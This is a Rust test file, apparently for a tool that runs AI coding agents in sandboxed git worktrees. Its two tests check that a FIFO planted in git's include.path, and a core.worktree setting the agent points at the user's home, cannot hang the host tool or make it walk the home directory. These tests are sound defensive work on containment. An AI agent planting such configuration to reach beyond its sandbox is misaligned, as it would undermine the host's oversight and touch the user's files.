/// `-w` start ends saying why.
#[test]
fn a_fifo_the_config_includes_hangs_no_git_call_of_ours() {
    use std::os::unix::fs::OpenOptionsExt;
    let host = Host::new("");
    let name = host.env.unique("ff");
    let repo = repo(&host.env, &name);
    nix::unistd::mkfifo(
        &repo.join(".git/inc"),
        nix::sys::stat::Mode::from_bits_truncate(0o600),
    )
    .unwrap();
    git(&repo, &["config", "include.path", "inc"]);
    for held in [false, true] {
        // The box holds it open (read-write: this open does not wait).
        let _writer = held.then(|| {
            std::fs::OpenOptions::new()
                .read(true)
                .write(true)
                .custom_flags(libc::O_NONBLOCK)
                .open(repo.join(".git/inc"))
                .unwrap()
        });
        // It ends (the repository is then not one it can read).
        finishes(&host, &repo, &["worktree", "list"]);
        let out = finishes(
            &host,
            &repo,
            &[
                "start",
                "--mode",
                "claude",
                "--detach",
                "--runtime",
                "host",
                "-w",
                "f",
            ],
        );
        assert!(!out.status.success(), "held={held}: {}", stdout(&out));
        assert!(
            stderr(&out).contains("FIFO"),
            "held={held}: the reason is not given: {}",
            stderr(&out)
        );
    }
}

/// The agent sets `core.worktree` for its worktree (`config.worktree`, in
/// the `.git` it writes) to the user's home: our `status` for `worktree
/// list` and `rm` would walk and hash the home. It looks at the worktree.
#[test]
fn status_looks_at_the_worktree_whatever_core_worktree_says() {
    let host = Host::new("");
    let home = fake_home(&host.env);
    let name = host.env.unique("cw");
    let repo = repo(&host.env, &name);
    let id = host.start_w(&repo, "w");
    git(&repo, &["config", "extensions.worktreeConfig", "true"]);
    std::fs::write(
        repo.join(".git/worktrees/w/config.worktree"),
        format!("[core]\n\tworktree = {}\n", home.display()),
    )
    .unwrap();
    let json = host.ok(&repo, &["worktree", "list", "--json"]);
    let v: serde_json::Value = serde_json::from_str(&json).unwrap();
    let dirty: Vec<_> = v
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["dirty"].as_bool())
        .collect();
    assert_eq!(dirty, [Some(false)], "{json}");
    host.ok(&repo, &["rm", "--force", "--worktree", &id]);
}
